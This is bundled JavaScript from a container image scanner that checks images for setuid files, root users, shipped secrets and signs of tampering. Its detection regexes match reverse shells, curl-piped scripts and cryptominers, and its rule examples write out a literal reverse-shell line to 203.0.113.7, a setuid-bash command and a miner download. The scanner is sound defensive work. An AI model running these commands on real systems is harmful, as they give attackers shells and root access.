		systemDirectory = /^\/(?:usr\/(?:share|lib|lib64|include)|lib)\//;
		credentialFiles = {
			name: "hygiene/credential-files",
			version: 2,
			headersOnly: true,
			wants: ({ path, type, size }) => (type === "hardlink" || type === "file" && size > 0) && isCredentialFile(path),
			collect: () => true
		};
	})))();
}

// actions/image-scan/hygiene/modes.ts
/** Reports one finding per rule and layer for files that are visible in a container. Pure. */
function modeProblems(files, subject, owners) {
	const visible = files.filter(({ hiddenBy }) => hiddenBy === void 0);
	const privileged = visible.filter(({ header }) => (header.mode & setIdBits$1) !== 0);
	const open = visible.filter(({ header }) => (header.mode & othersWrite) !== 0 && !temporaryPath.test(header.path));
	return [...byLayer(privileged).map((group) => {
		const unusual = group.filter((file) => !isOfDistribution(file, owners));
		const programs = unusual.length === 0 ? "setuid or setgid programs of the distribution" : "setuid or setgid programs";
		return imageProblem(setId, {
			message: `${programs}: ${pathList((unusual.length === 0 ? group : unusual).map((file) => pathWithOwner(file, owners)))}`,
			subject,
			about: firstPath(group),
			aliases: ["CIS-DI-0008"],
			severity: unusual.length === 0 ? "info" : setId.severity,
			imageLocations: placesOf(group)
		});
	}), ...byLayer(open).map((group) => imageProblem(worldWritable, {
		message: `everyone can write to ${pathList(group.map(pathOf))}`,
		subject,
		about: firstPath(group),
		severity: group.some(({ header }) => isSensitive(header.path, header.mode)) ? worldWritable.severity : "low",
		imageLocations: placesOf(group)
	}))];
}
/** Returns whether others run or read the file: programs, libraries and settings. */
function isSensitive(path, mode) {
	return (mode & 73) !== 0 || /^\/(?:etc|bin|sbin|lib|lib64|usr|opt|root)\/|\.(?:so|js|py|rb|jar|sh)$/.test(path);
}
/** Returns whether a distribution ships the program with these bits: by its name, and its owner where that is known. */
function isOfDistribution(file, owners) {
	if (!distributionPrograms.has(basename(file.header.path))) return false;
	return !owners.hasSystemLists || owners.of(file)?.isSystem === true;
}
/** Returns the path with the package of a program that distributions do not usually ship so. */
function pathWithOwner(file, owners) {
	const owner = distributionPrograms.has(basename(file.header.path)) ? void 0 : owners.of(file)?.package;
	return owner === void 0 ? pathOf(file) : `${pathOf(file)} (package ${owner.name})`;
}
function pathOf({ header }) {
	return header.path;
}
var basename, setId, worldWritable, modeRules, distributionPrograms, temporaryPath, setIdBits$1, othersWrite, riskyModes;
function init_modes() {
	return (init_modes = __esmMin((() => {
		init_image_check();
		({basename} = process.getBuiltinModule("node:path/posix"));
		setId = imageRule({
			id: "SW-IM-setuid",
			name: "SetuidFiles",
			severity: "low",
			summary: "Remove the setuid and setgid bits from programs that do not need them.",
			why: "A flaw in a setuid program gives its caller the permissions of the file's owner, usually root.",
			advice: "Remove the bits where nothing needs them, and run the container with `no-new-privileges`.",
			before: "RUN apt-get install -y passwd",
			after: "RUN apt-get install -y passwd && find / -xdev -perm /6000 -type f -exec chmod a-s {} +",
			tags: ["CIS-Docker-4.8", "CWE-250"],
			precision: "very-high"
		});
		worldWritable = imageRule({
			id: "SW-IM-world-writable",
			name: "WorldWritableFiles",
			severity: "medium",
			summary: "Do not make files writable for everyone.",
			why: "Any process in the container, however limited, can change what other users run or read.",
			advice: "Change the owner of the files to the user that needs them instead of opening them to everyone.",
			before: "RUN npm ci && chmod -R 777 /app",
			after: "RUN npm ci && chown -R 10001 /app",
			tags: ["CWE-732"],
			precision: "very-high"
		});
		modeRules = [setId, worldWritable];
		distributionPrograms = /* @__PURE__ */ new Set([
			...[
				"chage",
				"chfn",
				"chsh",
				"expiry",
				"gpasswd",
				"mount",
				"newgrp",
				"passwd",
				"su",
				"umount",
				"unix_chkpwd",
				"ping"
			],
			...[
				"ping6",
				"sudo",
				"wall",
				"write",
				"pam_timestamp_check",
				"ssh-keysign",
				"ssh-agent",
				"crontab",
				"pkexec"
			],
			...[
				"dbus-daemon-launch-helper",
				"fusermount",
				"fusermount3",
				"newuidmap",
				"newgidmap",
				"userhelper",
				"utempter"
			],
			...[
				"bbsuid",
				"polkit-agent-helper-1",
				"chkpwd",
				"grub2-set-bootflag",
				"at",
				"locate",
				"plocate",
				"sudoedit"
			]
		]);
		temporaryPath = /^\/(?:tmp|var\/tmp|dev|proc|sys|run|var\/run|var\/lock)\//;
		setIdBits$1 = 3072;
		othersWrite = 2;
		riskyModes = {
			name: "hygiene/modes",
			version: 1,
			headersOnly: true,
			wants: ({ type, mode, path }) => (type === "file" || type === "hardlink") && ((mode & setIdBits$1) !== 0 || (mode & othersWrite) !== 0 && !temporaryPath.test(path)),
			collect: () => true
		};
	})))();
}

// actions/image-scan/hygiene/owners.ts
/** Returns the other name of a hard link, which a tar states relative to the root. */
function linkedPath({ type, linkTarget }) {
	return type === "hardlink" ? [`/${linkTarget.replace(/^\.?\/+/, "")}`] : [];
}
var HygieneOwners;
function init_owners() {
	return (init_owners = __esmMin((() => {
		init_packages();
		HygieneOwners = class {
			#owners;
			/** Whether the system's package database lists files, so that a file without an owner has none. */
			hasSystemLists;
			constructor(files, { packages, owned }) {
				const all = [...packages, ...owned];
				const paths = files.flatMap(({ header }) => [header.path, ...linkedPath(header)]);
				this.#owners = fileOwners(paths, all);
				this.hasSystemLists = all.some(({ type, files: listed = [] }) => isSystemType(type) && listed.length > 0);
			}
			/** Returns the owner of a file, or of the file that it is a hard link to. */
			of({ header }) {
				const [linked] = linkedPath(header);
				return this.#owners.get(header.path) ?? (linked === void 0 ? void 0 : this.#owners.get(linked));
			}
		};
	})))();
}

// actions/image-scan/hygiene/settings.ts
/** Checks user, health check, tag and age of an image. `now` decides the age. Pure. */
function settingProblems({ config, tags }, subject, now) {
	const problems = [];
	const [name = ""] = config.user.split(":");
	if (/^(?:root|0*)$/.test(name)) {
		const userSetting = config.user === "" ? "sets no USER and runs as root" : `runs as ${oneLine(config.user)}`;
		problems.push(imageProblem(rootUser, {
			message: `the image ${userSetting}`,
			subject,
			about: [],
			aliases: ["CIS-DI-0001"],
			setBy: ["USER"]
		}));
	}
	const check = config.healthcheck?.test ?? [];
	if (check.length === 0 || check[0] === "NONE") problems.push(imageProblem(noHealthcheck, {
		message: "the image has no HEALTHCHECK",
		subject,
		about: [],
		aliases: ["CIS-DI-0006"],
		setBy: [
			"HEALTHCHECK",
			"CMD",
			"ENTRYPOINT"
		]
	}));
	const latest = tags.find((tag) => tag === "latest" || tag.endsWith(":latest"));
	if (latest !== void 0) problems.push(imageProblem(latestTag, {
		message: `the image is tagged ${oneLine(latest)}`,
		subject,
		about: [],
		aliases: ["DKL-DI-0006"],
		setBy: []
	}));
	const created = Date.parse(config.created ?? "");
	const age = Math.floor((now.getTime() - created) / day);
	if (created >= earliestBuild && age > maxAgeDays) {
		const date = new Date(created).toISOString().slice(0, 10);
		problems.push(imageProblem(oldImage, {
			message: `the image was built on ${date}, ${count(age, "day")} ago`,
			subject,
			about: [],
			setBy: []
		}));
	}
	return problems;
}
var rootUser, noHealthcheck, latestTag, oldImage, settingRules, maxAgeDays, day, earliestBuild;
function init_settings() {
	return (init_settings = __esmMin((() => {
		init_text();
		init_image_check();
		rootUser = imageRule({
			id: "SW-IM-root-user",
			name: "RootUser",
			severity: "medium",
			summary: "Run the image as a non-root user.",
			why: "A root process that escapes its container is root on the host, unless user namespaces are enabled.",
			advice: "Create a user with a fixed id and switch to it with USER after the last step that needs root.",
			before: "CMD [\"node\", \"app.js\"]",
			after: "USER 10001:10001\nCMD [\"node\", \"app.js\"]",
			tags: ["CIS-Docker-4.1", "CWE-250"],
			precision: "very-high"
		});
		noHealthcheck = imageRule({
			id: "SW-IM-no-healthcheck",
			name: "NoHealthcheck",
			severity: "info",
			summary: "Define a health check.",
			why: "Without a health check, Docker and Compose cannot tell a hung service from a working one. Kubernetes ignores HEALTHCHECK and uses probes.",
			advice: "Add a HEALTHCHECK instruction, unless the image runs only in Kubernetes.",
			before: "CMD [\"node\", \"app.js\"]",
			after: "HEALTHCHECK CMD [\"/app/healthy\"]\nCMD [\"node\", \"app.js\"]",
			tags: ["CIS-Docker-4.6"],
			precision: "very-high"
		});
		latestTag = imageRule({
			id: "SW-IM-latest-tag",
			name: "LatestTag",
			severity: "low",
			summary: "Tag the image with a version instead of `latest`.",
			why: "The tag moves: the image that runs may not be the image that was checked, and there is no earlier tag to roll back to.",
			advice: "Tag the image with its version or commit, and deploy it by digest.",
			before: "# docker build -t shop:latest .",
			after: "# docker build -t shop:1.4.2 .",
			tags: ["CWE-1357"],
			precision: "very-high"
		});
		oldImage = imageRule({
			id: "SW-IM-old-image",
			name: "OldImage",
			severity: "low",
			summary: "Rebuild the image regularly.",
			why: "An old image lacks every fix that its base image and packages have received since the build.",
			advice: "Rebuild the image at least once a month, on a schedule.",
			before: "FROM debian:bookworm-20240110-slim",
			after: "FROM debian:bookworm-20261110-slim",
			tags: ["CIS-Docker-4.4", "CWE-1104"]
		});
		settingRules = [
			rootUser,
			noHealthcheck,
			latestTag,
			oldImage
		];
		maxAgeDays = 180;
		day = 864e5;
		earliestBuild = Date.parse("2013-03-20");
	})))();
}

// actions/image-scan/hygiene/index.ts
/**
* Runs the hygiene checks that judge an image itself (CIS Docker Benchmark, section 4; dockle). Skips checks of
* settings for an unpacked root file system.
* @param walk a walk with `hygieneCollectors`.
*/
function hygieneProblems({ image, walk, catalog }, subject, now) {
	const modes = walk.found(riskyModes);
	const named = walk.found(credentialFiles);
	const left = walk.found(leftovers);
	const owners = new HygieneOwners([
		...modes,
		...named,
		...left
	], catalog);
	return [
		...image.mediaType === "application/vnd.seaworthy.root.v1" ? [] : settingProblems(image, subject, now),
		...credentialSettings(image.config, subject),
		...credentialFileProblems(named, subject, owners),
		...accountProblems(walk.found(accounts), subject),
		...modeProblems(modes, subject, owners),
		...leftoverProblems(left, subject, owners, image.config)
	];
}
var hygieneRules, hygieneCollectors;
function init_hygiene() {
	return (init_hygiene = __esmMin((() => {
		init_packages();
		init_accounts();
		init_credentials();
		init_leftovers();
		init_modes();
		init_owners();
		init_settings();
		hygieneRules = [
			...settingRules,
			...credentialRules,
			...accountRules,
			...modeRules,
			...leftoverRules
		];
		hygieneCollectors = [
			riskyModes,
			credentialFiles,
			leftovers,
			accounts
		];
	})))();
}

// actions/image-scan/secrets/keys.ts
/** Tells whether a key is in a file that is named as a dummy. */
function isNamedAsDummy(path, { rule }) {
	return keyRules.has(rule) && dummyName.test(path.split("/").slice(-2).join("/"));
}
var dummyName, keyRules;
function init_keys() {
	return (init_keys = __esmMin((() => {
		dummyName = /(?:^|[/_.-])(?:dummy|fake|mock)(?:[/_.-]|key|cert|$)/i;
		keyRules = /* @__PURE__ */ new Set([
			"private-key",
			"putty-key",
			"java-keystore",
			"pkcs12"
		]);
	})))();
}

// actions/image-scan/secrets/settings.ts
/**
* Searches ENV, LABEL, commands and history for secrets. The history includes ARG and every RUN. Values under a name
* are judged as in a Dockerfile, and everything else is searched as text. Pure.
*/
function settingHits(config, search) {
	const seen = /* @__PURE__ */ new Set();
	return [
		...named(config),
		...commands(config),
		...history(config)
	].flatMap(({ assignments, text, ...place }) => {
		return [...assignments.flatMap((assignment) => judge(assignment, search)), ...search.search(Buffer.from(text), true).hits].flatMap(({ rule, masked }) => {
			const key = `${rule}\0${masked}\0${masked === "…" ? place.where : ""}`;
			if (seen.has(key)) return [];
			seen.add(key);
			return [{
				rule,
				masked,
				...place
			}];
		});
	});
}
/**
* Searches the assignment with all rules, including the user's. Then searches a value that is a document, and judges the
* value under its name.
*/
function judge({ name, value }, search) {
	const hitsIn = (text) => search.search(Buffer.from(text), true).hits;
	const assigned = hitsIn(`${name}=${value}`).filter(({ rule }) => rule !== "assigned-value" || mayHoldSecret(name));
	if (assigned.length > 0) return assigned;
	const inside = hitsIn(value);
	if (inside.length > 0) return inside;
	const judged = judgeValue(value, name);
	return judged === void 0 ? [] : [{
		rule: judged.rule.id,
		masked: maskSecret(judged.rule, judged.secret)
	}];
}
function named({ env, labels }) {
	const variables = env.map((entry) => {
		const [name = ""] = entry.split("=", 1);
		return {
			name,
			value: entry.slice(name.length + 1),
			where: `the variable ${name}`,
			setBy: ["ENV"]
		};
	});
	const labeled = Object.entries(labels).map(([name, value]) => ({
		name,
		value,
		where: `the label ${name}`,
		setBy: ["LABEL"]
	}));
	return [...variables, ...labeled].map(({ name, value, ...place }) => ({
		...place,
		assignments: [{
			name,
			value
		}],
		text: ""
	}));
}
function commands({ cmd, entrypoint, healthcheck }) {
	return [
		["CMD", cmd],
		["ENTRYPOINT", entrypoint],
		["HEALTHCHECK", healthcheck?.test ?? []]
	].map(([keyword, words]) => ({
		where: keyword,
		setBy: [keyword],
		assignments: [],
		text: words.join(" ")
	}));
}
function history(config) {
	let layer = -1;
	return config.history.map(({ createdBy = "", emptyLayer }) => {
		if (!emptyLayer) layer += 1;
		const { keyword, assignments, text } = listHistoryAssignments(createdBy);
		return {
			where: `the history (${keyword})`,
			setBy: [keyword],
			assignments,
			text,
			...emptyLayer ? {} : { layer }
		};
	});
}
function init_settings$1() {
	return (init_settings$1 = __esmMin((() => {
		init_dockerfile();
		init_secrets();
		init_search();
	})))();
}

// actions/image-scan/secrets/problems.ts
/** Converts the secrets in an image's files and configuration to problems. Never contains the secrets. Pure. */
function secretProblems(files, config, subject, { rules, search, text }) {
	const ruleDefinitions = new Map(rules.map((rule) => [rule.id, rule]));
	const ruleById = new Map(rules.map((rule) => [rule.id, {
		title: rule.title,
		rule: ruleOf(rule)
	}]));
	const inFiles = files.flatMap((file) => {
		const { path } = file.header;
		const { inner } = file.value;
		const place = inner === void 0 ? path : `${path}!/${inner}`;
		const shownPath = oneLine(place.toWellFormed());
		const removed = file.hiddenBy === void 0 ? "" : `; layer ${file.hiddenBy.index} removes or replaces the file, but the image still ships it`;
		const { hits, omitted } = capped(text.count(file, ruleDefinitions).filter((hit) => !isNamedAsDummy(place, hit)), ruleDefinitions);
		return hits.flatMap((hit, index) => {
			const { rule: id, line } = hit;
			const about = ruleById.get(id);
			if (about === void 0) return [];
			const ordinal = hits.slice(0, index).filter((other) => other.rule === id).length;
			const others = omitted.after === hit ? `; ${count(omitted.count, "more value")} of this kind in the file` : "";
			const { layer } = file;
			return [imageProblem(about.rule, {
				message: `${shownPath}:${line} contains ${describe(hit, about.title)}${removed}${others}`,
				subject,
				...severityOf(hit),
				about: [
					layer?.diffId ?? "",
					place.toWellFormed(),
					String(ordinal)
				],
				...layer === void 0 ? {} : { imageLocations: [{
					path,
					diffId: layer.diffId,
					layerIndex: layer.index,
					...inner === void 0 ? { region: { startLine: line } } : {}
				}] }
			})];
		});
	});
	const inSettings = settingHits(config, search).flatMap(({ rule: id, masked, where, setBy, layer }) => {
		const about = ruleById.get(id);
		if (about === void 0) return [];
		const facts = {
			message: `${oneLine(where)} of the image contains ${about.title} (${masked})`,
			subject,
			about: ["config", where],
			aliases: ["CIS-DI-0010"]
		};
		const problem = imageProblem(about.rule, {
			...facts,
			setBy
		});
		return [layer === void 0 ? problem : {
			...problem,
			layer
		}];
	});
	return [...inFiles, ...inSettings];
}
/** Keeps the first values of a file whose rule knows neither issuer nor place. */
function capped(hits, rules) {
	const generic = hits.filter(({ rule, severity, title }) => {
		const known = rules.get(rule);
		return known?.generic === true && title === void 0 && (severity ?? known.severity) === "medium";
	});
	const omitted = new Set(generic.slice(maxGeneric));
	const after = omitted.size === 0 ? void 0 : generic[2];
	return {
		hits: hits.filter((hit) => !omitted.has(hit)),
		omitted: {
			count: omitted.size,
			...defined({ after })
		}
	};
}
function describe({ title, masked, published }, ruleTitle) {
	if (published === void 0) return `${title ?? ruleTitle} (${masked})`;
	return `${title ?? ruleTitle} that everybody has: it is published with ${published}`;
}
function severityOf({ severity, published }) {
	return published === void 0 ? defined({ severity }) : { severity: "info" };
}
/** Returns the rule that reports secrets of a kind. */
function ruleOf({ id, title, severity }) {
	const noun = title.replace(/^an? /, "");
	return imageRule({
		id: `SW-IM-secret-${id}`,
		name: "SecretInImage",
		severity,
		summary: `Do not ship ${title} in the image.`,
		why: "Anyone who can pull the image can read every layer, the history and the variables, even files that a later layer removes.",
		advice: `Revoke the ${noun}, because it has been published. Then pass its replacement to the build as a secret mount, or to the container when it starts.`,
		before: "ARG TOKEN\nRUN ./download --token $TOKEN",
		after: "RUN --mount=type=secret,id=token ./download --token-file /run/secrets/token",
		tags: [
			"secret",
			"CWE-798",
			"CWE-312",
			"CIS-Docker-4.10"
		],
		precision: severity === "critical" ? "very-high" : "medium"
	});
}
var maxGeneric;
function init_problems() {
	return (init_problems = __esmMin((() => {
		init_text();
		init_image_check();
		init_keys();
		init_settings$1();
		maxGeneric = 3;
	})))();
}

// actions/image-scan/tampering/entry-points.ts
/** Returns a test for scripts that run when a container starts: those that ENTRYPOINT and CMD name, and in start directories. */
function isEntryPoint({ entrypoint, cmd, workingDir }) {
	const words = [...entrypoint, ...cmd].flatMap((word) => word.split(/[\s;&|"']+/)).filter((word) => word !== "");
	const paths = new Set(words.flatMap((word) => [posix.resolve(workingDir === "" ? "/" : workingDir, word), ...word.includes("/") ? [] : programDirectories.map((directory) => `${directory}/${word}`)]));
	return (path) => paths.has(path) || startDirectory.test(path);
}
var posix, startDirectory, programDirectories;
function init_entry_points() {
	return (init_entry_points = __esmMin((() => {
		({posix} = process.getBuiltinModule("node:path"));
		startDirectory = /^\/(?:docker-entrypoint\.d|etc\/cont-init\.d|etc\/services\.d|etc\/s6-overlay)\//;
		programDirectories = [
			"/usr/local/sbin",
			"/usr/local/bin",
			"/usr/sbin",
			"/usr/bin",
			"/sbin",
			"/bin"
		];
	})))();
}

// actions/image-scan/tampering/forms.ts
/** Finds commands in a script that malware uses. Few and exact forms; at most one of each kind. */
function suspiciousCommands(text) {
	if (!anyForm.test(text)) return [];
	const hits = [];
	const add = (kind, match) => {
		if (match === null || match === void 0 || isComment(text, match.index)) return;
		const line = text.slice(0, match.index).split("\n").length;
		hits.push({
			kind,
			line,
			evidence: evidenceOf(match[0])
		});
	};
	add("reverse-shell", firstMatch(reverseShells, text));
	if (miner.test(text)) add("miner", pool.exec(text));
	add("remote-script", firstMatch(remoteScripts, text));
	return hits;
}
function firstMatch(forms, text) {
	for (const form of forms) {
		const match = form.exec(text);
		if (match !== null) return match;
	}
}
function isComment(text, offset) {
	return /^\s*(?:#|\/\/|;|\*)/.test(text.slice(text.lastIndexOf("\n", offset) + 1, offset + 1));
}
/** Returns a command for a message, without logins and parameters of its addresses. */
function evidenceOf(command) {
	const plain = command.replace(/:\/\/[^\s/@]{1,200}@/g, "://…@").replace(/\?[^\s"'|]{1,300}/g, "?…");
	return truncate(oneLine(plain.replace(/\s+/g, " ").toWellFormed()), maxEvidence);
}
var shell, address, reverseShells, pool, miner, remoteScripts, maxEvidence, anyForm;
function init_forms() {
	return (init_forms = __esmMin((() => {
		init_text();
		shell = `(?:/(?:usr/)?bin/)?(?:ba|da|z|k|a)?sh`;
		address = String.raw`/dev/(?:tcp|udp)/[\w.${"$"}{}-]{1,100}/[\w${"$"}{}]{1,20}`;
		reverseShells = [
			new RegExp(`${shell} -i {0,3}(?:>&|&>|>) {0,3}${address}`),
			new RegExp(`exec {1,3}\\d{1,3}<> {0,3}${address}[\\s\\S]{0,300}?(?:${shell}[^\\n]{0,40}<&\\d|while read[^\\n]{0,40}<&\\d)`),
			new RegExp(`\\b(?:nc|ncat|netcat) [^\\n|;]{0,80}?-[a-z]{0,4}[ec] {1,3}["']?${shell}\\b`),
			new RegExp(`\\bmkfifo [^\\n;&|]{1,80}[;&|\\n][\\s\\S]{0,120}?\\| {0,3}${shell} -i {0,3}2>&1 {0,3}\\| {0,3}(?:nc|ncat|netcat|openssl|telnet) `),
			/socket\.socket\([\s\S]{0,300}?\.connect\([\s\S]{0,300}?os\.dup2\([^)\n]{0,60}fileno\(\)[\s\S]{0,300}?(?:pty\.spawn|subprocess\.\w{3,12}|os\.exec\w{1,4})\(/,
			/socket\(S,PF_INET,SOCK_STREAM[\s\S]{0,300}?exec\(["']\/bin\/(?:ba)?sh -i/
		];
		pool = /\bstratum\+(?:tcp|ssl|tls|udp):\/\/[\w.-]{3,253}:\d{2,5}/;
		miner = /\b(?:xmrig|xmr-stak|minerd|cpuminer|ccminer|cgminer|bfgminer|ethminer|nbminer|lolminer|t-rex|phoenixminer|cryptonight|randomx)\b|--donate-level|"(?:wallet|pools)"\s*:/i;
		remoteScripts = [new RegExp(`\\b(?:curl|wget) [^\\n|;&]{0,300}?https?:\\/\\/[^\\n|;&]{1,300}\\|{1} {0,3}(?:sudo (?:-\\S{1,10} ){0,3})?${shell}(?= |$|["'\\n;)])`), new RegExp(`${shell} (?:-\\w{1,5} )?(?:<\\(|["']?\\$\\() {0,3}(?:curl|wget) [^\\n)]{0,300}?https?:\\/\\/`)];
		maxEvidence = 120;
		anyForm = /\/dev\/(?:tcp|udp)\/|stratum\+|dup2|mkfifo|\b(?:nc|ncat|netcat|curl|wget) |PF_INET/;
	})))();
}

// actions/image-scan/tampering/programs.ts
function isElf(head) {
	return head[0] === 127 && head[1] === 69;
}
function digestsOf(file) {
	const [md5 = "", sha1 = "", sha256 = ""] = hashContent(contentOf(file), [
		"md5",
		"sha1",
		"sha256"
	]);
	return [
		{
			algorithm: "MD5",
			value: md5
		},
		{
			algorithm: "SHA-1",
			value: sha1
		},
		{
			algorithm: "SHA-256",
			value: sha256
		}
	];
}
var maxBytes$1, setIdBits, watched, watchedPrograms, allPrograms, library, minerName, minerPrograms, dangerousSetuid, runsAnything;
function init_programs$1() {
	return (init_programs$1 = __esmMin((() => {
		init_files();
		init_layers();
		maxBytes$1 = 64 * 2 ** 20;
		setIdBits = 3072;
		watched = /\/(?:s?bin|lib(?:exec)?|lib64|openssh|security|[\w-]+-linux-[\w-]+)\/(?:sshd(?:-session|-auth)?|ssh|login|su|sudo|passwd|bash|dash|sh|busybox|ps|ls|top|netstat|ss|lsof|find|crontab|cron|curl|wget|gpgv?|openssl|apt-get|dpkg|rpm|apk|init|systemd|unix_chkpwd|ld-[\w.-]+|libc(?:\.so\.6|-[\d.]+\.so|\.musl-[\w.-]+)|libpam\.so[\d.]*|libcrypto\.so[\d.]*|libssl\.so[\d.]*|libselinux\.so[\d.]*|liblzma\.so[\d.]*|libz\.so[\d.]*|pam_unix\.so)$/;
		watchedPrograms = {
			name: "tampering/programs",
			version: 1,
			readsInPlace: true,
			wants: ({ path, type, size, mode }) => type === "file" && size > 0 && size <= maxBytes$1 && (watched.test(path) || (mode & setIdBits) !== 0),
			sniffs: isElf,
			collect: digestsOf
		};
		allPrograms = {
			name: "tampering/all-programs",
			version: 1,
			readsInPlace: true,
			wants: ({ path, type, size, mode }) => type === "file" && size > 0 && size <= maxBytes$1 && ((mode & 73) !== 0 || library.test(path)),
			sniffs: (head) => isElf(head) || head[0] === 35 && head[1] === 33,
			collect: digestsOf
		};
		library = /\.so(?:\.[\w.-]+)?$/;
		minerName = /\/(?:xmrig(?:-\w+)?|xmr-stak(?:-\w+)?|minerd|cpuminer(?:-\w+)?|ethminer|nbminer|lolMiner|t-rex)$/;
		minerPrograms = {
			name: "tampering/miners",
			version: 1,
			wants: ({ path, type, mode }) => type === "file" && (mode & 73) !== 0 && minerName.test(path),
			sniffs: (head) => head[0] === 127 && head[1] === 69,
			readsInPlace: true,
			collect: () => true
		};
		dangerousSetuid = {
			name: "tampering/setuid",
			version: 1,
			headersOnly: true,
			wants: ({ path, type, mode, uid }) => type === "file" && (mode & 2048) !== 0 && uid === 0 && runsAnything.test(path),
			collect: () => true
		};
		runsAnything = /\/(?:(?:ba|da|z|k|a|c|tc|fi)?sh|busybox|python[\d.]*|perl[\d.]*|ruby[\d.]*|php[\d.]*|lua[\d.]*|node|awk|gawk|mawk|sed|vim?|vim\.\w+|nano|ed|less|more|find|cp|mv|dd|tar|tee|cat|env|nmap|gdb|strace|xargs|docker|nsenter|chroot|unshare|curl|wget|nc|ncat|socat|openssl|systemctl|tclsh|expect)$/;
	})))();
}

// actions/image-scan/tampering/rules.ts
var advice, reverseShell, cryptominer, remoteScript, changedProgram, setuidShell, tamperingRules;
function init_rules() {
	return (init_rules = __esmMin((() => {
		init_image_check();
		advice = "Find out which step of the build or which base image added the file. If you did not, treat the image, the build and every secret that it had as compromised.";
		reverseShell = imageRule({
			id: "SW-IM-reverse-shell",
			name: "ReverseShell",
			severity: "critical",
			summary: "Do not ship scripts that connect a shell to another host.",
			why: "The command gives whoever listens at the address a shell in the container.",
			advice,
			before: "COPY start.sh /usr/local/bin/   # bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
			after: "COPY start.sh /usr/local/bin/   # exec app",
			tags: ["malware", "CWE-506"],
			precision: "very-high"
		});
		cryptominer = imageRule({
			id: "SW-IM-miner",
			name: "Cryptominer",
			severity: "critical",
			summary: "Do not ship programs or scripts that mine cryptocurrencies.",
			why: "Miners are the most frequent payload of compromised images. They use the CPU of whoever runs the image.",
			advice,
			before: "RUN curl -o /usr/bin/xmrig https://example.com/xmrig",
			after: "# no miner",
			tags: ["malware", "CWE-506"],
			precision: "very-high"
		});
		remoteScript = imageRule({
			id: "SW-IM-remote-script",
			name: "RemoteScriptAtStart",
			severity: "high",
			summary: "Do not run a script from the network when the container starts.",
			why: "What the container runs is then not in the image. Whoever controls the address or the network controls the container, and no scan sees it.",
			advice: "Download the script during the build, verify its digest, and run the file.",
			before: "CMD [\"sh\", \"-c\", \"curl -fsSL https://example.com/start.sh | sh\"]",
			after: "ADD --checksum=sha256:24454f83… https://example.com/start.sh /start.sh\nCMD [\"/start.sh\"]",
			tags: ["CWE-494", "CWE-829"],
			precision: "very-high"
		});
		changedProgram = imageRule({
			id: "SW-IM-changed-program",
			name: "ChangedProgram",
			severity: "high",
			summary: "Do not change programs and libraries that a package installed.",
			why: "The file is not what the package's database says. It may have been replaced, and an update of the package overwrites it without a trace.",
			advice,
			before: "COPY sshd /usr/sbin/sshd",
			after: "COPY sshd /usr/local/sbin/sshd",
			tags: ["CWE-353", "CWE-506"],
			precision: "high"
		});
		setuidShell = imageRule({
			id: "SW-IM-setuid-shell",
			name: "SetuidShell",
			severity: "high",
			summary: "Do not give the setuid bit to programs that run commands or write files.",
			why: "No distribution ships these programs with the bit. Whoever can call one is root in the container.",
			advice: "Remove the bit: `chmod u-s FILE`.",
			before: "RUN chmod u+s /bin/bash",
			after: "# no setuid bit",
			tags: ["CWE-250", "CWE-269"],
			precision: "very-high"
		});
		tamperingRules = [
			reverseShell,
			cryptominer,
			remoteScript,
			changedProgram,
			setuidShell
		];
	})))();
}

// actions/image-scan/tampering/scripts.ts
var maxBytes, scriptName, startedPlace, packaged, suspiciousScripts;
function init_scripts() {
	return (init_scripts = __esmMin((() => {
		init_files();
		init_forms();
		maxBytes = 524288;
		scriptName = /\.(?:sh|bash|zsh|ksh|py|pl|rb|php|[cm]?js|service|timer)$/;
		startedPlace = /^\/(?:etc\/(?:cron[^/]*|init\.d|rc[^/]*|profile\.d|cont-init\.d|services\.d|systemd|update-motd\.d)|docker-entrypoint\.d|var\/spool\/cron)\/|\/\.(?:bashrc|bash_profile|profile|zshrc)$|^\/etc\/(?:profile|bash\.bashrc|crontab|rc\.local)$/;
		packaged = /\/(?:node_modules|site-packages|dist-packages|gems)\/|^\/usr\/(?:share\/(?:doc|perl|python3?|vim|nodejs)|lib\/(?:python|perl|ruby)[^/]*|include)\//;
		suspiciousScripts = {
			name: "tampering/scripts",
			version: 1,
			wants: ({ path, type, size, mode }) => type === "file" && size >= 8 && size <= maxBytes && !packaged.test(path) && (scriptName.test(path) || startedPlace.test(path) || (mode & 73) !== 0),
			sniffs: (head) => !head.includes(0) && head[0] !== 127,
			collect({ body }) {
				const hits = suspiciousCommands(bufferOf(body).toString("latin1"));
				return hits.length === 0 ? void 0 : hits;
			}
		};
	})))();
}

// actions/image-scan/tampering/index.ts
/** Returns the collectors of these checks. Under the profile `strict`, every program is compared with its package. */
function tamperingCollectors(profile) {
	return [
		suspiciousScripts,
		comparedPrograms(profile),
		minerPrograms,
		dangerousSetuid
	];
}
function comparedPrograms(profile) {
	return profile === "strict" ? allPrograms : watchedPrograms;
}
/**
* Finds what somebody changed or planted, without signatures: programs that differ from what their package recorded,
* shells with the setuid bit, miners, reverse shells, and scripts from the network at the start. Files that a later layer
* removes are not run, except that their scripts show what the build did.
* @param walk a walk with the `tamperingCollectors` of the profile.
*/
function tamperingProblems({ image, walk, catalog }, subject, profile = "recommended") {
	const scripts = walk.found(suspiciousScripts);
	const programs = walk.found(comparedPrograms(profile)).filter(isVisible);
	const miners = walk.found(minerPrograms);
	const setuid = walk.found(dangerousSetuid).filter(isVisible);
	const owners = new HygieneOwners([
		...scripts,
		...programs,
		...miners,
		...setuid
	], catalog);
	const startsWith = isEntryPoint(image.config);
	const report = (rule, file, message) => imageProblem(rule, {
		message: `${oneLine(file.header.path.toWellFormed())}${message}`,
		subject,
		about: [file.header.path.toWellFormed()],
		imageLocations: placesOf([file])
	});
	return [
		...scripts.filter((file) => owners.of(file) === void 0).flatMap((file) => file.value.flatMap((command) => {
			if (command.kind === "remote-script" && !(isVisible(file) && startsWith(file.header.path))) return [];
			return [report(ruleFor(command), file, `:${command.line} ${whatItDoes[command.kind]}: ${command.evidence}`)];
		})),
		...miners.filter((file) => owners.of(file) === void 0).map((file) => report(cryptominer, file, " is named as a program that mines, and no package owns it")),
		...programs.flatMap((file) => {
			const difference = differenceOf(file, owners, catalog);
			return difference === void 0 ? [] : [report(changedProgram, file, difference)];
		}),
		...setuid.map((file) => report(setuidShell, file, " runs as root for everybody: it has the setuid bit, with which no distribution ships it")),
		...inCommands(image.config, subject)
	];
}
function ruleFor({ kind }) {
	return {
		"reverse-shell": reverseShell,
		miner: cryptominer,
		"remote-script": remoteScript
	}[kind];
}
function isVisible({ hiddenBy }) {
	return hiddenBy === void 0;
}
